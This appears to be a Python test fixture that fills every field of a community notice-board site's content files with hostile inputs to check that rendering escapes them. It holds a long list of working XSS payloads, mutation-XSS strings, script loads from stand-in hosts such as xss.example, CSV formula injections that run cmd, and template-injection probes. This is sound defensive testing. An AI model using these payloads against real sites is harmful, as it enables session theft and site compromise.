"""A bulletin written by an attacker: known XSS vectors in every field that reaches a page.

`VECTORS` follows the kinds of the OWASP XSS filter-evasion cheat sheet (script tags, event
handlers, `javascript:`/`vbscript:`/`data:` URLs however encoded, cased or split by tabs and line
breaks, SVG and MathML, `base`, `meta`, `form`, `iframe`/`object`/`embed`, style tricks), known
mutation-XSS strings (parser round-trip differentials), breakouts for every context a text lands
in (attribute, `<title>`, JSON, XML/CDATA, CSV formulas) and template-injection probes.
`MARKDOWN_VECTORS` adds what only Markdown can express (links, images, reference definitions,
autolinks, code).

`hostile_files()` is the minimal bulletin (conftest) plus records of every kind whose text fields
hold the vectors — every vector in every field at least once, where the field's length limit
allows — a notice and a project whose Markdown bodies hold all of them, and attachments whose
titles and file names are vectors too. Bodies hold one vector each (half of them in notices, half
in projects), because an unclosed `<svg` or `<xmp` swallows whatever follows it in the same body;
a notice and a project whose bodies hold all vectors at once test them mixed. It also returns the
(field, vector) pairs placed, the mixed bodies not counted.
"""

from __future__ import annotations

import json

from attachkit import BLANK_PDF
from conftest import minimal_files

VECTORS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//xss.example/x.js></SCRIPT>",
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(1)>",
    "<IMG SRC=\"javascript:alert('XSS');\">",
    "<IMG SRC=JaVaScRiPt:alert('XSS')>",
    "<IMG SRC=`javascript:alert(1)`>",
    "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#49;&#41;>",
    "<IMG SRC=&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058"
    "&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000049&#0000041>",
    "<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x31&#x29>",
    "<IMG SRC=\"jav\tascript:alert('XSS');\">",
    "<IMG SRC=\"jav&#x09;ascript:alert('XSS');\">",
    "<IMG SRC=\"jav&#x0A;ascript:alert('XSS');\">",
    "<IMG SRC=\" &#14;  javascript:alert('XSS');\">",
    '<a href="java\nscript:alert(1)">x</a>',
    '<a href=" JAVASCRIPT:alert(1)">x</a>',
    '<a href="javascript&colon;alert(1)">x</a>',
    '<a href="jav&Tab;ascript:alert(1)">x</a>',
    '<a href="jav&NewLine;ascript:alert(1)">x</a>',
    '<a href="javas&#99;ript:alert(1)">x</a>',
    '<a href="&#1;javascript:alert(1)">x</a>',
    '<a href="javascript://%0aalert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="VBScript:msgbox(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">XSS</text></a></svg>',
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    '<svg><set attributeName="onmouseover" to="alert(1)"/>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<math href="javascript:alert(1)">CLICKME</math>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<select><noembed></select><script>alert(1)</script>",
    '<!--<img src="--><img src=x onerror=alert(1)//">',
    "<![CDATA[<script>alert(1)</script>]]>",
    "<xmp><script>alert(1)</script></xmp>",
    "<template><script>alert(1)</script></template>",
    '<base href="javascript:alert(1)//">',
    '<base href="//xss.example/">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<meta http-equiv="Content-Security-Policy" content="script-src *">',
    '<form action="javascript:alert(1)"><input type=submit></form>',
    "<button formaction=javascript:alert(1)>x</button>",
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="javascript:alert(1)"></object>',
    '<embed src="javascript:alert(1)">',
    '<div style="background-image:url(javascript:alert(1))">x</div>',
    '<div style="width:expression(alert(1))">x</div>',
    "<style>@import'//xss.example/x.css';</style>",
    '<link rel=stylesheet href="javascript:alert(1)">',
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    '<video><source onerror="alert(1)">',
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<isindex type=image src=1 onerror=alert(1)>",
    '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>',
    "<frameset onload=alert(1)>",
    '<img src="http://tracker.example/p.png">',
    '<img srcset="//tracker.example/p.png 1x">',
    '<a ping="//tracker.example/" href="/">x</a>',
    "<img src=x:alert(alt) onerror=eval(src) alt=0>",
    '<img """><script>alert(1)</script>">',
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    '<<SCRIPT>alert("XSS");//<</SCRIPT>',
    "<img src=1 onerror=alert(1)//",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    '\\"-alert(1)-\\"',
    "</script><script>alert(1)</script>",
    "]]><script>alert(1)</script><![CDATA[",
    '<?xml-stylesheet href="javascript:alert(1)"?>',
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    '=HYPERLINK("http://xss.example","x")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "{{ 7*7 }}{{ cycler.__init__.__globals__ }}",
    "{% for x in range(9) %}x{% endfor %}",
    "${alert(1)}#{alert(1)}",
]

MARKDOWN_VECTORS = [
    "[x](javascript:alert(1))",
    "[x](JAVASCRIPT:alert(1))",
    "[x](java&#x09;script:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "![x](javascript:alert(1))",
    "![x](//tracker.example/p.png)",
    "![x](/\\tracker.example/p.png)",
    '![x" onerror="alert(1)](/a.png)',
    '[x](/a "title\\" onmouseover=\\"alert(1)")',
    "[x][r]\n\n[r]: javascript:alert(1)",
    "<javascript:alert(1)>",
    "`<script>alert(1)</script>`",
    "```html\n<script>alert(1)</script>\n```",
    "[<img src=x onerror=alert(1)>](/x)",
    "*<img src=x onerror=alert(1)>*",
    "| a | b |\n|---|---|\n| <script>alert(1)</script> | <img src=x onerror=alert(1)> |",
    "<div>\n\n*x* <img src=x onerror=alert(1)>\n\n</div>",
    "    <script>alert(1)</script>",
]


class Packer:
    """Hands out vectors field by field: each call for a field returns as many whole, unplaced
    vectors as fit the field's length limit (joined by a space), so that every vector lands in
    every field at least once with as few records (pages) as possible. A vector longer than a
    field allows is never placed there (validation would refuse it, which proves nothing about
    rendering)."""

    def __init__(self, vectors: list[str]):
        self.vectors = vectors
        self.queues: dict[str, list[str]] = {}
        self.placed: list[tuple[str, str]] = []

    def take(self, field: str, limit: int, fallback: str = "普通文字") -> str:
        return q(self.raw(field, limit, fallback))

    def raw(self, field: str, limit: int, fallback: str, pool: list[str] | None = None, at_most: int = 10**6) -> str:
        queue = self.queues.setdefault(field, [v for v in (pool or self.vectors) if 0 < len(v.strip()) <= limit])
        chosen: list[str] = []
        while queue and len(chosen) < at_most and len(" ".join(chosen + [queue[0]])) <= limit:
            chosen.append(queue.pop(0))
        self.placed += [(field, v) for v in chosen]
        return " ".join(chosen) if chosen else fallback

    def once(self, field: str, limit: int) -> str:
        """For a field that exists once (the site's title): as many vectors as fit, and no more."""
        value = self.take(field, limit)
        self.queues[field] = []
        return value

    def pending(self) -> bool:
        return any(self.queues.values()) or not self.queues


def _credit_code(i: int) -> str:
    """A valid credit code of its own for generated company `i`."""
    from generator.domain.checksums import credit_code_check_char

    body = f"91370700MA3D{i:05d}"
    return body + credit_code_check_char(body)


def q(text: str) -> str:
    """A YAML double-quoted scalar (JSON strings are valid YAML)."""
    return json.dumps(text, ensure_ascii=False)


def hostile_body() -> str:
    return "\n\n".join(VECTORS + MARKDOWN_VECTORS) + "\n"


ATTACHMENT_NAMES = [
    '"><svg onload=alert(1)>.pdf',
    "<img src=x onerror=alert(1)>.pdf",
    "javascript:alert(1).pdf",
    "a' onclick='alert(1).pdf",
    "%3Cscript%3E.pdf",
    "#<b>x</b>?.pdf",
]
PDF = BLANK_PDF  # a valid PDF: an unreadable one is refused (attachments are read before publishing)


def hostile_files() -> tuple[dict[str, str | bytes], list[tuple[str, str]]]:
    """(content files, the (field, vector) pairs placed)."""
    files: dict[str, str | bytes] = dict(minimal_files())
    pack = Packer(VECTORS)
    body_vectors = VECTORS + MARKDOWN_VECTORS
    half = len(body_vectors) // 2
    site = files["site.yaml"]
    site = site.replace("title: 测试公示栏", "title: " + pack.once("site.title", 200))
    site = site.replace("publisher: 测试编辑组", "publisher: " + pack.once("site.publisher", 200))
    site = site.replace("contact: 电话 0536-8000000", "contact: " + pack.once("site.contact", 500))
    site = site.replace(
        "{label: 主管部门, max: 30}", "{label: " + pack.once("evaluation.parts.label", 40) + ", max: 30}"
    )
    # The base URL admits only URL characters (quotes and brackets are refused), but those include
    # ' ( ) & ; = which must still be escaped in attributes.
    site = site.replace(
        "base_url: https://example.org/", 'base_url: "https://example.org/x\'onmouseover=alert(1)&a=1;(b)/"'
    )
    pack.placed.append(("site.base_url", "'onmouseover=alert(1)&a=1;(b)"))
    files["site.yaml"] = site

    streets, scores = [], []
    i = 0
    while pack.pending() or i == 0:
        community = f"c{i}"
        streets.append(f"      - {{id: s{i}, name: {pack.take('street.name', 100, f'街道{i}')}}}")
        venues = []
        for _ in range(4):
            venues += [
                f"  - name: {pack.take('venue.name', 200)}",
                f"    kind: {pack.take('venue.kind', 50, '党群服务中心')}",
                f"    address: {pack.take('venue.address', 300)}",
                f"    services: [{pack.take('venue.services', 100)}, {pack.take('venue.services', 100)}]",
            ]
        files[f"communities/{community}.yaml"] = "\n".join(
            [
                f"name: {pack.take('community.name', 100, f'社区{i}')}",
                f"street: s{i}",
                f"secretary: {pack.take('community.secretary', 50, '书记')}",
                f"office_phone: {pack.take('community.office_phone', 50, '0536-8000000')}",
                f"address: {pack.take('community.address', 300)}",
                "grids:",
                f"  - {{id: g1, name: {pack.take('grid.name', 100)}, members: 3}}",
                f"  - {{id: g2, name: {pack.take('grid.name', 100)}}}",
                "venues:",
                *venues,
                "",
            ]
        )
        files[f"companies/m{i}.yaml"] = "\n".join(
            [
                f"name: {pack.take('company.name', 200, f'公司{i}')}",
                f"credit_code: {_credit_code(i)}",  # one company, one code
                "state_owned: true",
                "party_organization: true",
                f"phone: {pack.take('company.phone', 50, '0536-8000000')}",
                f"address: {pack.take('company.address', 300)}",
                "",
            ]
        )
        files[f"compounds/k{i}.yaml"] = "\n".join(
            [
                f"name: {pack.take('compound.name', 100, f'小区{i}')}",
                f"community: {community}",
                "grid: g1",
                "type: enterprise",
                f"company: m{i}",
                "households: 100",
                "fee_collection: {2025: 0.9}",
                "",
            ]
        )
        scores.append(
            f"  - {{company: m{i}, authority: 20, street: 20, owners: 20, note: {pack.take('evaluation.note', 500)}}}"
        )
        updates = [
            f"  - {{date: 2026-03-0{d}, status: in_progress, text: {pack.take('project.updates.text', 2000)}}}"
            for d in (1, 2)
        ]
        files[f"projects/p{i}.md"] = "\n".join(
            [
                "---",
                f"title: {pack.take('project.title', 200, f'项目{i}')}",
                "category: facility",
                "status: in_progress",
                f"compounds: [k{i}]",
                f"funding: {pack.take('project.funding', 300)}",
                f"unit: {pack.take('project.unit', 200)}",
                f"company: m{i}",
                "updates:",
                *updates,
                "---",
                pack.raw("project.body", 10**6, "项目说明。", pool=body_vectors[half:], at_most=1),
                "",
            ]
        )
        attachments = [
            f"  - {{title: {pack.take('attachment.title', 200)}, file: {q(f'h/{i}-{a}.pdf')}}}" for a in range(3)
        ]
        for a in range(3):
            files[f"attachments/h/{i}-{a}.pdf"] = PDF
        files[f"notices/2026/n{i}.md"] = "\n".join(
            [
                "---",
                f"title: {pack.take('notice.title', 200, f'公告{i}')}",
                f"date: 2026-{1 + i % 10:02d}-{1 + i % 28:02d}",
                "category: 公示",
                f"communities: [{community}]",
                "until: 2026-12-31",
                "attachments:",
                *attachments,
                "---",
                pack.raw("notice.body", 10**6, "公告正文。", pool=body_vectors[:half], at_most=1),
                "",
            ]
        )
        i += 1
    files["areas.yaml"] = (
        "districts:\n  - id: gx\n    name: 高新区\n    streets:\n      - {id: xc, name: 新城街道}\n      - {id: qc, name: 清池街道}\n"
        f"  - id: hx\n    name: {pack.once('district.name', 100)}\n    streets:\n" + "\n".join(streets) + "\n"
    )
    files["evaluations/hx/2025-H1.yaml"] = (
        "period: 2025-H1\npublished: 2025-07-15\nscores:\n" + "\n".join(scores) + "\n"
    )
    files["evaluations/hx/2025-H2.yaml"] = (
        "period: 2025-H2\npublished: 2026-01-15\nscores:\n" + "\n".join(scores) + "\n"
    )

    attachments = "\n".join(f"  - {{title: 附件, file: {q('n/' + name)}}}" for name in ATTACHMENT_NAMES)
    for name in ATTACHMENT_NAMES:
        files[f"attachments/n/{name}"] = PDF
    pack.placed += [("attachment.file", name) for name in ATTACHMENT_NAMES]
    files["notices/2026/everything.md"] = (
        f"---\ntitle: 全部向量\ndate: 2026-11-01\ncategory: 通知\nattachments:\n{attachments}\n---\n" + hostile_body()
    )
    files["projects/everything.md"] = (
        "---\ntitle: 全部向量项目\ncategory: service\nstatus: planned\ncommunities: [yf]\n---\n" + hostile_body()
    )
    return files, pack.placed
